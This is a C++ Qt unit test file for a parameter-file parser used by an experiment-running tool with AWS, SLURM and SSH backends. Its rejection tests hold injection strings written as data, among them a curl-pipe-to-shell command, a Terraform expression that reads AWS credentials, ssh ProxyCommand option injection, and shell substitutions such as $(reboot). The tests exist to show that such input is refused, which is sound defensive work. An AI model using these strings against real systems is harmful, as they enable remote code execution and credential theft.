// SPDX-License-Identifier: MIT
#include "Parameters.h"
#include "Settings.h"
#include "aws/AwsParameters.h"
#include "aws/AwsPrices.h"
#include "slurm/SlurmParameters.h"

#include <QDate>
#include <QDeadlineTimer>
#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QTemporaryDir>
#include <QTest>
#include <QThread>
#include <QtConcurrent/QtConcurrentRun>
#include <functional>
#include <sys/stat.h>

class TestParameters : public QObject
{
    Q_OBJECT
private:
    // A parameters.json as a person writes one: keys in no particular order, its own indentation and line ends,
    // keys this version does not know, comments, numbers spelt 0.0005 and 1e-3, a grid whose keys are not sorted.
    static QByteArray handWritten(const QByteArray& indent, const QByteArray& newline)
    {
        const QByteArray i = indent;
        const QByteArray ii = indent + indent;
        const QByteArray nl = newline;
        return "{" + nl + i + "\"experiment_name\": \"odd-order\"," + nl + i + "\"max_parallel\": 2," + nl + i
            + "\"experiment_command\": \"python3 train.py\"," + nl + i
            + "\"experiment_conditions\": [\"--seed 1\", \"--seed 2\"]," + nl + i
            + "\"my_lab_notes\": {\"owner\": \"ada\", \"runs\": [1, 2.50, 1E-3]}," + nl + i + "\"parameter_grid\": {"
            + nl + ii + "\"momentum\": [0.9, 0]," + nl + ii + "\"learning_rate\": [0.0005, 1e-3, 0.002]," + nl + ii
            + "\"batch\": [\"32\", 64]" + nl + i + "}," + nl + i
            + "\"parameter_grid_comment\": \"momentum varies slowest\"," + nl + i + "\"backend\": \"local\"" + nl + "}"
            + nl;
    }

    static Result errorFor(const QByteArray& text)
    {
        Result error;
        const auto params = Parameters::parse(text, "parameters.json");
        error = params.error();
        if (params)
            qWarning("expected an error for: %s", text.constData());
        return error;
    }

private Q_SLOTS:
    void parsesOriginalFormat()
    {
        const QByteArray text = R"({
    "experiment_name": "rnn-1",
    "experiment_conditions": ["--lr 0.1", "--lr 0.01"],
    "experiment_conditions_comment": "one per machine",
    "aws_ami": "ami-0a1b2c3d",
    "aws_root_volume_size": 30,
    "aws_ami_user": "ubuntu",
    "aws_instance_type": "p2.xlarge",
    "aws_region": "eu-west-1",
    "local_docker_command": "docker",
    "remote_docker_command": "nvidia-docker"
})";
        Result error;
        const auto p = Parameters::parse(text, "parameters.json");
        error = p.error();
        QVERIFY2(p.isOk(), qPrintable(error.message()));
        QCOMPARE(p->experimentName(), QString("rnn-1"));
        QCOMPARE(p->conditions(), QStringList({ "--lr 0.1", "--lr 0.01" }));
        QCOMPARE(p->awsInstanceType(), QString("p2.xlarge"));
        QCOMPARE(p->awsRegion(), QString("eu-west-1"));
        QCOMPARE(p->remoteDockerCommand(), QString("nvidia-docker"));
        QCOMPARE(p->backend(), QString("local"));
        QCOMPARE(p->maxParallel(), 1);
    }

    void awsFormats()
    {
        for (const char* ok : { "ami-0a1b2c3d", "ami-0123456789abcdef0" })
            QVERIFY2(AwsParameters::isAmi(QLatin1String(ok)), ok);
        for (const char* bad : { "ami-123", "ami-0123456789ABCDEF0", "ami-0a1b2c3d ", "0a1b2c3d" })
            QVERIFY2(!AwsParameters::isAmi(QLatin1String(bad)), bad);
        for (const char* ok : { "t3.micro", "g4dn.xlarge", "c7i-flex.large", "u-6tb1.metal", "p4de.24xlarge" })
            QVERIFY2(AwsParameters::isInstanceType(QLatin1String(ok)), ok);
        for (const char* bad : { "t3", ".micro", "t3.${x}", "T3.micro", "t3.micro;id" })
            QVERIFY2(!AwsParameters::isInstanceType(QLatin1String(bad)), bad);
        for (const char* ok : { "us-east-1", "eu-central-1", "us-gov-west-1", "ap-southeast-2" })
            QVERIFY2(AwsParameters::isRegion(QLatin1String(ok)), ok);
        for (const char* bad : { "us-east", "useast1", "us-east-1 ", "eu-central-01" })
            QVERIFY2(!AwsParameters::isRegion(QLatin1String(bad)), bad);
        for (const char* ok : { "admin", "ec2-user", "ubuntu", "_svc", "root" })
            QVERIFY2(AwsParameters::isUserName(QLatin1String(ok)), ok);
        for (const char* bad : { "-admin", "a b", "a'b", "", "admin\n", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" })
            QVERIFY2(!AwsParameters::isUserName(QLatin1String(bad)), bad);
        const auto wide = AwsParameters::parseCidr(QStringLiteral("0.0.0.0/0"));
        QVERIFY(wide.isValid() && wide.isWide());
        QVERIFY(AwsParameters::parseCidr(QStringLiteral("10.0.0.0/8")).isWide());
        QVERIFY(!AwsParameters::parseCidr(QStringLiteral("10.1.0.0/16")).isWide());
        QVERIFY(AwsParameters::parseCidr(QStringLiteral("203.0.113.7/32")).isValid());
        QVERIFY(!AwsParameters::parseCidr(QStringLiteral("203.0.113.7/33")).isValid());
        QVERIFY(!AwsParameters::parseCidr(QStringLiteral("203.0.113.7/032")).isValid());
        QVERIFY(!AwsParameters::parseCidr(QStringLiteral("::/0")).isValid());
        QVERIFY(!AwsParameters::parseCidr(QStringLiteral("203.0.113.7/32\n")).isValid());
        QVERIFY(!AwsParameters::isRegion(QStringLiteral("us-east-1\n")));
    }

    void slurmAcceptsWhatItShould()
    {
        Result error;
        const auto p = Parameters::parse(
            "{\"experiment_name\": \"x\", \"backend\": \"slurm\", \"slurm\": {\"login\": "
            "\"alice@login.hpc.example:2222\", "
            "\"partition\": \"gpu-a100\", \"account\": \"proj_42\", \"time\": \"1-12:00:00\", \"cpus_per_task\": 4, "
            "\"mem\": \"16G\", \"gpus_per_task\": 1, \"container_runtime\": \"podman\", \"work_dir\": "
            "\"/scratch/alice/runs\", \"time_comment\": \"a day and a half\"}}",
            QStringLiteral("parameters.json"));
        error = p.error();
        QVERIFY2(p, qPrintable(error.message()));
        const SlurmParameters::Settings s = SlurmParameters::read(*p);
        QCOMPARE(s.login, QStringLiteral("alice@login.hpc.example:2222"));
        QCOMPARE(s.cpusPerTask, 4);
        QCOMPARE(s.gpusPerTask, 1);
        QCOMPARE(s.runtime, QStringLiteral("podman"));
        QCOMPARE(s.workDir, QStringLiteral("/scratch/alice/runs"));
        for (const char* ok : { "00:01:00", "02:00:00", "7-00:00:00", "100:00:00" })
            QVERIFY2(SlurmParameters::time(QLatin1String(ok)).isEmpty(), ok);
        for (const char* bad : { "00:00:00", "1:00", "1-24:00:00", "02:00:00 ", "-02:00:00" })
            QVERIFY2(!SlurmParameters::time(QLatin1String(bad)).isEmpty(), bad);
        for (const char* ok : { "~", "~/logistician", "/scratch/a.b/c_d-e" })
            QVERIFY2(SlurmParameters::workDir(QLatin1String(ok)).isEmpty(), ok);
        for (const char* bad : { "/", "~user/x", "~/a b", "/x/../y", "/x/-rf", "" })
            QVERIFY2(!SlurmParameters::workDir(QLatin1String(bad)).isEmpty(), bad);
        // Defaults: docker, ~/logistician, one CPU, no GPU.
        const auto plain = Parameters::parse("{\"experiment_name\": \"x\", \"slurm\": {\"login\": \"u@h\"}}",
                                             QStringLiteral("parameters.json"));
        error = plain.error();
        QVERIFY(plain);
        QCOMPARE(SlurmParameters::read(*plain).runtime, QStringLiteral("docker"));
        QCOMPARE(SlurmParameters::read(*plain).workDir, QStringLiteral("~/logistician"));
        QCOMPARE(SlurmParameters::read(*plain).cpusPerTask, 1);
    }

    void awsMachinesDefaultToSetup()
    {
        // Absent or empty, the region and type are those stored by `setup`; written, the file's own.
        QTemporaryDir config;
        const QByteArray saved = qgetenv("XDG_CONFIG_HOME");
        qputenv("XDG_CONFIG_HOME", config.path().toUtf8());
        Settings settings;
        settings.setDefaultRegion("eu-central-1");
        settings.setDefaultInstanceType("t3.small");
        for (const QByteArray& text :
             { QByteArray(R"({"experiment_name": "x"})"),
               QByteArray(R"({"experiment_name": "x", "aws_region": "", "aws_instance_type": ""})") }) {
            Result error;
            const auto p = Parameters::parse(text, "parameters.json");
            error = p.error();
            QVERIFY2(p.isOk(), qPrintable(error.message()));
            const ResultOf<AwsParameters::Machine> resolved = AwsParameters::resolve(*p, settings);
            QVERIFY(resolved);
            const AwsParameters::Machine& machine = *resolved;
            QCOMPARE(machine.region, QString("eu-central-1"));
            QCOMPARE(machine.instanceType, QString("t3.small"));
            QCOMPARE(machine.regionSource, QString("settings"));
        }
        Result error;
        const auto own = Parameters::parse(
            R"({"experiment_name": "x", "aws_region": "us-west-2", "aws_instance_type": "m5.large"})", "p");
        error = own.error();
        QVERIFY(own.isOk());
        const ResultOf<AwsParameters::Machine> resolved = AwsParameters::resolve(*own, settings);
        QVERIFY(resolved);
        const AwsParameters::Machine& machine = *resolved;
        QCOMPARE(machine.region, QString("us-west-2"));
        QCOMPARE(machine.instanceType, QString("m5.large"));
        if (saved.isEmpty())
            qunsetenv("XDG_CONFIG_HOME");
        else
            qputenv("XDG_CONFIG_HOME", saved);
    }

    void awsPricesPerRegion()
    {
        const AwsPrices prices(qEnvironmentVariable("LOGISTICIAN_DATA_DIR")
                               + QStringLiteral("/templates/aws/prices.json"));
        QVERIFY(!prices.source().isEmpty());
        QVERIFY(QDate::fromString(prices.date(), Qt::ISODate).isValid());
        const auto virginia = prices.price(QStringLiteral("us-east-1"), QStringLiteral("t3.small"));
        const auto frankfurt = prices.price(QStringLiteral("eu-central-1"), QStringLiteral("t3.small"));
        QVERIFY(virginia.known() && frankfurt.known());
        QVERIFY(virginia.perHour != frankfurt.perHour);
        // Not in the table: unknown, never another region's price.
        const auto sao = prices.price(QStringLiteral("sa-east-1"), QStringLiteral("t3.small"));
        QVERIFY(!sao.known());
        QVERIFY(sao.note.contains(QStringLiteral("sa-east-1")));
        const auto odd = prices.price(QStringLiteral("eu-central-1"), QStringLiteral("x9.huge"));
        QVERIFY(!odd.known());
        QVERIFY(odd.note.contains(QStringLiteral("x9.huge")));
    }

    void errorsNameLineAndColumn_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QString>("expected");
        QTest::newRow("conditions not a list")
            << QByteArray("{\n  \"experiment_name\": \"x\",\n  \"experiment_conditions\": \"a\"\n}")
            << "parameters.json:3:28: experiment_conditions must be a list of strings";
        QTest::newRow("condition not a string")
            << QByteArray("{\n  \"experiment_name\": \"x\",\n  \"experiment_conditions\": [\n    \"a\",\n    7\n  ]\n}")
            << "parameters.json:5:5: experiment_conditions must be a list of strings (item 2 is a number)";
        QTest::newRow("syntax error") << QByteArray("{\n  \"experiment_name\": \"x\",\n}") << "parameters.json:3:";
        QTest::newRow("missing name") << QByteArray("{}") << "parameters.json:1:1: experiment_name is missing";
        QTest::newRow("bad name") << QByteArray("{\"experiment_name\": \"has space\"}")
                                  << "parameters.json:1:21: experiment_name must be";
        QTest::newRow("bad backend") << QByteArray("{\"experiment_name\": \"x\",\n\"backend\": \"gcp\"}")
                                     << "parameters.json:2:12: backend must be one of aws, local, slurm, ssh";
        QTest::newRow("bad host") << QByteArray("{\"experiment_name\": \"x\", \"hosts\": [\"root@a\", \"nouser\"]}")
                                  << "parameters.json:1:46: hosts item 2 must look like";
        QTest::newRow("max_parallel zero")
            << QByteArray("{\"experiment_name\": \"x\", \"max_parallel\": 0}")
            << "parameters.json:1:42: max_parallel must be a whole number from 1 to 100000";
        QTest::newRow("aws_machines negative")
            << QByteArray("{\"experiment_name\": \"x\", \"aws_machines\": -1}")
            << "parameters.json:1:42: aws_machines must be a whole number from 0 to 100000";
        QTest::newRow("max_retries too many")
            << QByteArray("{\"experiment_name\": \"x\",\n \"max_retries\": 11}")
            << "parameters.json:2:17: max_retries must be a whole number from 0 to 10";
        QTest::newRow("max_retries text") << QByteArray("{\"experiment_name\": \"x\", \"max_retries\": \"2\"}")
                                          << "parameters.json:1:41: max_retries must be";
        QTest::newRow("grid values") << QByteArray(
            "{\"experiment_name\": \"x\",\n \"parameter_grid\": {\"lr\": [],\n \"b\": [1]}}")
                                     << "parameters.json:2:27: parameter_grid.lr must be a non-empty list";
        QTest::newRow("unbalanced quote in condition")
            << QByteArray("{\"experiment_name\": \"x\", \"experiment_conditions\": [\"--a 'b\"]}")
            << "parameters.json:1:52: experiment_conditions item 1: unbalanced single quote";
        QTest::newRow("top level not object")
            << QByteArray("[1]") << "parameters.json:1:1: the top level must be a JSON object";
        // The aws keys reach Terraform and the instance's root boot script: checked at load (issue 10).
        QTest::newRow("aws_ami_user hostile") << QByteArray(
            "{\"experiment_name\": \"x\",\n \"aws_ami_user\": \"admin'; curl -s http://203.0.113.9/x | sh; echo '\"}")
                                              << "parameters.json:2:18: aws_ami_user must be a user name";
        QTest::newRow("aws_ami_user leading dash")
            << QByteArray("{\"experiment_name\": \"x\", \"aws_ami_user\": \"-oops\"}")
            << "parameters.json:1:42: aws_ami_user must be a user name";
        QTest::newRow("aws_instance_type expression")
            << QByteArray(
                   "{\"experiment_name\": \"x\",\n\"aws_instance_type\": \"${file(\\\"/root/.aws/credentials\\\")}\"}")
            << "parameters.json:2:22: aws_instance_type must be an EC2 instance type";
        QTest::newRow("aws_ami not hex") << QByteArray("{\"experiment_name\": \"x\", \"aws_ami\": \"ami-${x}\"}")
                                         << "parameters.json:1:37: aws_ami must be an AMI id";
        QTest::newRow("aws_region") << QByteArray("{\"experiment_name\": \"x\", \"aws_region\": \"eu central\"}")
                                    << "parameters.json:1:40: aws_region must be an AWS region";
        QTest::newRow("aws_root_volume_size small")
            << QByteArray("{\"experiment_name\": \"x\", \"aws_root_volume_size\": 2}")
            << "parameters.json:1:50: aws_root_volume_size must be a whole number of GB from 8 to 16384";
        QTest::newRow("aws_root_volume_size fraction")
            << QByteArray("{\"experiment_name\": \"x\", \"aws_root_volume_size\": 20.5}")
            << "parameters.json:1:50: aws_root_volume_size must be a whole number";
        QTest::newRow("aws_ssh_cidr host bits")
            << QByteArray("{\"experiment_name\": \"x\", \"aws_ssh_cidr\": \"1.2.3.4/0\"}")
            << "parameters.json:1:42: aws_ssh_cidr: \"1.2.3.4/0\" has host bits set; the range it lies in is 0.0.0.0/0";
        QTest::newRow("aws_ssh_cidr leading zero")
            << QByteArray("{\"experiment_name\": \"x\", \"aws_ssh_cidr\": \"01.2.3.4/32\"}")
            << "parameters.json:1:42: aws_ssh_cidr: \"01.2.3.4/32\" is not an IPv4 address range";
        QTest::newRow("aws_ssh_cidr no prefix")
            << QByteArray("{\"experiment_name\": \"x\", \"aws_ssh_cidr\": \"203.0.113.7\"}")
            << "parameters.json:1:42: aws_ssh_cidr: \"203.0.113.7\" is not an IPv4 address range";
        QTest::newRow("aws_spot not a bool") << QByteArray("{\"experiment_name\": \"x\", \"aws_spot\": \"yes\"}")
                                             << "parameters.json:1:38: aws_spot must be true or false";
        QTest::newRow("aws_spot_max_price a number")
            << QByteArray("{\"experiment_name\": \"x\", \"aws_spot\": true, \"aws_spot_max_price\": 0.05}")
            << "parameters.json:1:66: aws_spot_max_price must be a price";
        QTest::newRow("aws_spot_max_price hostile")
            << QByteArray("{\"experiment_name\": \"x\", \"aws_spot\": true, \"aws_spot_max_price\": \"0.1${x}\"}")
            << "parameters.json:1:66: aws_spot_max_price must be a price";
        QTest::newRow("aws_spot_max_price zero")
            << QByteArray("{\"experiment_name\": \"x\", \"aws_spot\": true, \"aws_spot_max_price\": \"0.000\"}")
            << "parameters.json:1:66: aws_spot_max_price must be a price";
        QTest::newRow("aws_spot_max_price without aws_spot")
            << QByteArray("{\"experiment_name\": \"x\", \"aws_spot_max_price\": \"0.05\"}")
            << "parameters.json:1:48: aws_spot_max_price needs";
        QTest::newRow("aws_ssh_cidr octet")
            << QByteArray("{\"experiment_name\": \"x\", \"aws_ssh_cidr\": \"256.0.0.0/8\"}")
            << "parameters.json:1:42: aws_ssh_cidr: \"256.0.0.0/8\": 256 is not";
        QTest::newRow("columns count characters")
            << QByteArray("{\"experiment_name\": \"x\", \"ä\": 1, \"max_parallel\": \"2\"}")
            << "parameters.json:1:50: max_parallel must be";

        // Values that reach ssh, rsync, docker or a shell (issue 10).
        QTest::newRow("host begins with -")
            << QByteArray("{\"experiment_name\": \"x\",\n \"hosts\": [\"-F.evil@127.0.0.61:23461\"]}")
            << "parameters.json:2:12: hosts item 1 has a user or host beginning with '-', which ssh would read as an "
               "option";
        QTest::newRow("host part begins with -")
            << QByteArray("{\"experiment_name\": \"x\", \"hosts\": [\"root@a\", \"me@-oProxyCommand=id\"]}")
            << "parameters.json:1:46: hosts item 2 has a user or host beginning with '-'";
        QTest::newRow("port 0") << QByteArray("{\"experiment_name\": \"x\", \"hosts\": [\"me@host:0\"]}")
                                << "parameters.json:1:36: hosts item 1 has port 0; a port is 1 to 65535";
        QTest::newRow("port 99999") << QByteArray("{\"experiment_name\": \"x\", \"hosts\": [\"me@host:99999\"]}")
                                    << "parameters.json:1:36: hosts item 1 has port 99999; a port is 1 to 65535";
        QTest::newRow("grid key with a quote")
            << QByteArray("{\"experiment_name\": \"x\",\n \"parameter_grid\": {\"lr\": [1],\n   \"x'y\": [1]}}")
            << "parameters.json:3:4: parameter_grid key \"x'y\" must be letters";
        QTest::newRow("grid key with three dashes")
            << QByteArray("{\"experiment_name\": \"x\", \"parameter_grid\": {\"---a\": [1]}}")
            << "parameters.json:1:45: parameter_grid key \"---a\" must be";
        QTest::newRow("grid key with a space")
            << QByteArray("{\"experiment_name\": \"x\", \"parameter_grid\": {\"a b\": [1]}}")
            << "parameters.json:1:45: parameter_grid key \"a b\" must be";
        QTest::newRow("grid value with a newline")
            << QByteArray("{\"experiment_name\": \"x\", \"parameter_grid\": {\"a\": [\"1\", \"2\\n3\"]}}")
            << "parameters.json:1:56: parameter_grid.a item 2 contains a line break";
        QTest::newRow("docker command runs a shell")
            << QByteArray("{\"experiment_name\": \"x\",\n \"local_docker_command\": \"sh -c 'id > /tmp/pwn' docker\"}")
            << "parameters.json:2:26: local_docker_command must be docker, nvidia-docker or podman";
        QTest::newRow("remote docker command with options")
            << QByteArray("{\"experiment_name\": \"x\", \"remote_docker_command\": \"docker -H tcp://1.2.3.4\"}")
            << "parameters.json:1:51: remote_docker_command must be docker, nvidia-docker or podman";
        QTest::newRow("docker command another program")
            << QByteArray("{\"experiment_name\": \"x\", \"local_docker_command\": \"/usr/bin/env\"}")
            << "parameters.json:1:50: local_docker_command must be";
        QTest::newRow("docker command sudo alone")
            << QByteArray("{\"experiment_name\": \"x\", \"local_docker_command\": \"sudo\"}")
            << "parameters.json:1:50: local_docker_command must be";
        QTest::newRow("docker command relative path")
            << QByteArray("{\"experiment_name\": \"x\", \"local_docker_command\": \"./docker\"}")
            << "parameters.json:1:50: local_docker_command must be";
        QTest::newRow("NUL in a condition")
            << QByteArray("{\"experiment_name\": \"x\",\n \"experiment_conditions\": [\"--a 1\", \"a\\u0000b c\"]}")
            << "parameters.json:2:37: experiment_conditions item 2: contains a NUL character";
        QTest::newRow("newline in a condition")
            << QByteArray("{\"experiment_name\": \"x\", \"experiment_conditions\": [\"--a '1\\n2'\"]}")
            << "parameters.json:1:52: experiment_conditions item 1: contains a line break";
        QTest::newRow("carriage return in a condition")
            << QByteArray("{\"experiment_name\": \"x\", \"experiment_conditions\": [\"--a 1\\r\"]}")
            << "parameters.json:1:52: experiment_conditions item 1: contains a line break";
        QTest::newRow("escape in a condition")
            << QByteArray("{\"experiment_name\": \"x\", \"experiment_conditions\": [\"\\u001b[2J\"]}")
            << "parameters.json:1:52: experiment_conditions item 1: contains the control character U+001B";
        QTest::newRow("NUL in the command")
            << QByteArray("{\"experiment_name\": \"x\", \"experiment_command\": \"python\\u0000 x\"}")
            << "parameters.json:1:48: experiment_command: contains a NUL character";
        QTest::newRow("duplicate top-level key")
            << QByteArray("{\"experiment_name\": \"x\",\n \"backend\": \"ssh\",\n  \"backend\": \"local\"}")
            << "parameters.json:3:3: duplicate key \"backend\"; only one may be given";
        QTest::newRow("duplicate grid key")
            << QByteArray("{\"experiment_name\": \"x\", \"parameter_grid\": {\"lr\": [1], \"lr\": [2]}}")
            << "parameters.json:1:56: duplicate key \"lr\" in parameter_grid; only one may be given";
        QTest::newRow("registry with spaces")
            << QByteArray("{\"experiment_name\": \"x\", \"registry\": \"my registry\"}")
            << "parameters.json:1:38: registry must be a registry host with an optional port and path";
        QTest::newRow("registry with an option")
            << QByteArray("{\"experiment_name\": \"x\", \"registry\": \"--config=/tmp/x\"}")
            << "parameters.json:1:38: registry must be a registry host";
        QTest::newRow("registry with port 0")
            << QByteArray("{\"experiment_name\": \"x\", \"registry\": \"localhost:0/team\"}")
            << "parameters.json:1:38: registry has port 0; a port is 1 to 65535";
        QTest::newRow("registry path in upper case")
            << QByteArray("{\"experiment_name\": \"x\", \"registry\": \"docker.io/Team\"}")
            << "parameters.json:1:38: registry must be";
        QTest::newRow("registry user begins with -")
            << QByteArray("{\"experiment_name\": \"x\", \"registry_user\": \"-p\"}")
            << "parameters.json:1:43: registry_user must not begin with '-'";
        QTest::newRow("registry user with a space")
            << QByteArray("{\"experiment_name\": \"x\", \"registry_user\": \"a b\"}")
            << "parameters.json:1:43: registry_user must be";

        // The slurm object reaches ssh, sbatch and the job script on the login node (issue 16).
        auto slurm = [](const char* members) {
            return QByteArray("{\"experiment_name\": \"x\",\n\"slurm\": {") + members + "}}";
        };
        QTest::newRow("slurm login option")
            << slurm("\"login\": \"-oProxyCommand=touch /tmp/x\"") << "parameters.json:2:20: slurm.login must";
        QTest::newRow("slurm login no user") << slurm("\"login\": \"cluster\"") << "parameters.json:2:20: slurm.login";
        QTest::newRow("slurm partition shell") << slurm("\"login\": \"u@h\", \"partition\": \"gpu;reboot\"")
                                               << "parameters.json:2:40: slurm.partition must be 1 to 64";
        QTest::newRow("slurm account option")
            << slurm("\"account\": \"--uid=0\"") << "parameters.json:2:22: slurm.account must be";
        QTest::newRow("slurm time words")
            << slurm("\"time\": \"2 hours\"") << "parameters.json:2:19: slurm.time must be";
        QTest::newRow("slurm time minutes 60") << slurm("\"time\": \"01:60:00\"") << "parameters.json:2:19: slurm.time";
        QTest::newRow("slurm time newline") << slurm("\"time\": \"01:00:00\\n\"") << "parameters.json:2:19: slurm.time";
        QTest::newRow("slurm mem unit") << slurm("\"mem\": \"16GB\"") << "parameters.json:2:18: slurm.mem must be";
        QTest::newRow("slurm mem negative") << slurm("\"mem\": \"-1\"") << "parameters.json:2:18: slurm.mem";
        QTest::newRow("slurm cpus zero") << slurm("\"cpus_per_task\": 0")
                                         << "parameters.json:2:28: slurm.cpus_per_task must be a whole number";
        QTest::newRow("slurm cpus text") << slurm("\"cpus_per_task\": \"4\"")
                                         << "parameters.json:2:28: slurm.cpus_per_task";
        QTest::newRow("slurm gpus fraction")
            << slurm("\"gpus_per_task\": 0.5") << "parameters.json:2:28: slurm.gpus_per_task";
        QTest::newRow("slurm runtime")
            << slurm("\"container_runtime\": \"singularity\"")
            << "parameters.json:2:32: slurm.container_runtime must be one of docker, podman, apptainer";
        QTest::newRow("slurm work_dir up")
            << slurm("\"work_dir\": \"~/../etc\"") << "parameters.json:2:23: slurm.work_dir must not";
        QTest::newRow("slurm work_dir command")
            << slurm("\"work_dir\": \"~/$(reboot)\"") << "parameters.json:2:23: slurm.work_dir must be";
        QTest::newRow("slurm work_dir relative")
            << slurm("\"work_dir\": \"data\"") << "parameters.json:2:23: slurm.work_dir";
        QTest::newRow("slurm unknown member")
            << slurm("\"nodes\": 4") << "parameters.json:2:20: slurm has no member \"nodes\"";
        QTest::newRow("slurm not an object") << QByteArray("{\"experiment_name\": \"x\",\n\"slurm\": \"u@h\"}")
                                             << "parameters.json:2:10: slurm must be an object";
        QTest::newRow("slurm backend without login")
            << QByteArray("{\"experiment_name\": \"x\",\n\"backend\": \"slurm\", \"slurm\": {\"time\": \"01:00:00\"}}")
            << "parameters.json:2:30: slurm.login is missing";
        QTest::newRow("slurm backend without slurm")
            << QByteArray("{\"experiment_name\": \"x\",\n\"backend\": \"slurm\"}")
            << "parameters.json:2:12: backend \"slurm\" needs a \"slurm\" object";
    }
    void errorsNameLineAndColumn()
    {
        QFETCH(QByteArray, text);
        QFETCH(QString, expected);
        const Result error = errorFor(text);
        const QString actual = error.message();
        QVERIFY2(actual.startsWith(expected), qPrintable(actual + " does not start with " + expected));
        // Bad input, exit code 2, the location kept apart from what is wrong.
        QCOMPARE(error.kind(), Result::Kind::BadInput);
        QCOMPARE(error.exitCode(), 2);
        QCOMPARE(error.location().toString() + ": " + error.what(), actual);
    }

    void acceptsWhatTheRulesAllow()
    {
        const QByteArray text = R"({
    "experiment_name": "x",
    "experiment_conditions": ["--a 1\tb", "--name 'a b' -v"],
    "hosts": ["root@127.0.0.1", "me_1@host-a.example.org:2222", "u@h:65535"],
    "local_docker_command": "sudo docker",
    "remote_docker_command": "/usr/local/bin/podman",
    "registry": "registry.example.com:5000/team-a/sub_b",
    "registry_user": "first.last@example.org",
    "parameter_grid": {"lr": [0.1], "--depth": [2], "-v": ["x"]},
    "nested": {"same": 1, "other": {"same": 2}}
})";
        Result error;
        const auto p = Parameters::parse(text, "parameters.json");
        error = p.error();
        QVERIFY2(p.isOk(), qPrintable(error.message()));
        // Keys written with their dashes are used as they are.
        QCOMPARE(p->allConditions().mid(2), QStringList { "--lr 0.1 --depth 2 -v x" });
        for (const char* docker :
             { "docker", "nvidia-docker", "podman", "sudo podman", "/usr/bin/nvidia-docker", "" }) {
            const QByteArray json
                = QByteArray("{\"experiment_name\": \"x\", \"local_docker_command\": \"") + docker + "\"}";
            error = Parameters::parse(json, "p.json").error();
            QVERIFY2(error.isOk(), qPrintable(error.message()));
        }
        for (const char* spot :
             { R"("aws_spot": false)", R"("aws_spot": true)", R"("aws_spot": true, "aws_spot_max_price": "0.0123")",
               R"("aws_spot": true, "aws_spot_max_price": "12")" }) {
            const QByteArray json = QByteArray("{\"experiment_name\": \"x\", ") + spot + "}";
            error = Parameters::parse(json, "p.json").error();
            QVERIFY2(error.isOk(), qPrintable(error.message()));
        }
        for (const char* registry : { "localhost:5000", "127.0.0.1:5000/x", "docker.io/user", "ghcr.io/a/b.c" }) {
            const QByteArray json = QByteArray("{\"experiment_name\": \"x\", \"registry\": \"") + registry + "\"}";
            error = Parameters::parse(json, "p.json").error();
            QVERIFY2(error.isOk(), qPrintable(error.message()));
        }
    }

    void templatesAndExamplesLoad()
    {
        // Every parameters.json shipped with the tool loads (an empty aws_ami means the default AMI).
        const QString root = qEnvironmentVariable("LOGISTICIAN_DATA_DIR");
        QStringList files;
        for (const char* t : { "python", "shell" })
            files << root + "/templates/experiment/" + t + "/parameters.json";
        files << root + "/examples/addition/experiments/1/parameters.json";
        for (const QString& file : files) {
            Result error;
            error = Parameters::load(file).error();
            QVERIFY2(error.isOk(), qPrintable(error.message()));
        }
    }

    void loadRefusesWhatIsNotAFile()
    {
        QTemporaryDir dir;
        Result error;

        // A symlink to a device: refused before a byte is read (it used to abort with std::bad_alloc).
        const QString zero = dir.filePath("zero.json");
        QVERIFY(QFile::link("/dev/zero", zero));
        error = Parameters::load(zero).error();
        QVERIFY(!error.isOk());
        QCOMPARE(error.message(), zero + ": not a regular file");

        // A folder.
        error = Parameters::load(dir.path()).error();
        QVERIFY(!error.isOk());
        QCOMPARE(error.message(), dir.path() + ": not a regular file");

        // Over 10 MB, even when it is valid JSON.
        const QString big = dir.filePath("big.json");
        QFile file(big);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write("{\"experiment_name\": \"x\"}");
        file.write(QByteArray(Parameters::MaxFileSize, ' '));
        file.close();
        error = Parameters::load(big).error();
        QVERIFY(!error.isOk());
        QCOMPARE(error.message(), big + ": larger than 10 MB; not a parameters file");

        // A FIFO with no writer: refused at once instead of waiting forever.
        const QString fifo = dir.filePath("fifo.json");
        QCOMPARE(::mkfifo(QFile::encodeName(fifo).constData(), 0600), 0);
        QFuture<QString> loading = QtConcurrent::run([fifo] {
            Result e;
            return Parameters::load(fifo).message();
        });
        QDeadlineTimer deadline(5000);
        while (!loading.isFinished() && !deadline.hasExpired())
            QThread::msleep(20);
        if (!loading.isFinished()) {
            // Unblock the reader so the test can end, then fail.
            QFile writer(fifo);
            QVERIFY(writer.open(QIODevice::WriteOnly));
            writer.close();
            loading.waitForFinished();
            QFAIL("loading a FIFO blocked");
        }
        QCOMPARE(loading.result(), fifo + ": not a regular file");
    }

    void gridExpandsToCartesianProduct()
    {
        // Keys in the order given, the first varying slowest.
        const Parameters::Grid grid { { "lr", { "0.1", "0.01" } }, { "layers", { "1", "2", "3" } } };
        const QStringList conditions = Parameters::expandGrid(grid);
        QCOMPARE(conditions.size(), 6);
        QCOMPARE(conditions.first(), QString("--lr 0.1 --layers 1"));
        QCOMPARE(conditions.at(1), QString("--lr 0.1 --layers 2"));
        QCOMPARE(conditions.last(), QString("--lr 0.01 --layers 3"));
        QCOMPARE(QSet<QString>(conditions.begin(), conditions.end()).size(), 6);
    }

    void gridValuesAreQuotedAndTyped()
    {
        Result error;
        const auto p = Parameters::parse(
            R"({"experiment_name": "x", "experiment_conditions": ["--base"],
                "parameter_grid": {"name": ["big model"], "lr": [0.5, 1e-3], "flag": [true]}})",
            "p.json");
        error = p.error();
        QVERIFY2(p.isOk(), qPrintable(error.message()));
        // The grid's keys in the order written, not sorted.
        QCOMPARE(p->allConditions(),
                 QStringList({ "--base", "--name 'big model' --lr 0.5 --flag true",
                               "--name 'big model' --lr 0.001 --flag true" }));
    }

    void conditionsFollowTheWrittenGridOrder()
    {
        Result error;
        const auto p = Parameters::parse(handWritten("    ", "\n"), "parameters.json");
        error = p.error();
        QVERIFY2(p.isOk(), qPrintable(error.message()));
        const Parameters::Grid grid = p->parameterGrid();
        QCOMPARE(grid.size(), 3);
        QCOMPARE(grid.at(0).first, QString("momentum"));
        QCOMPARE(grid.at(1).first, QString("learning_rate"));
        QCOMPARE(grid.at(2).first, QString("batch"));
        QCOMPARE(grid.at(1).second, QStringList({ "0.0005", "0.001", "0.002" }));
        const QStringList conditions = p->allConditions().mid(2); // after experiment_conditions
        QCOMPARE(conditions.size(), 12);
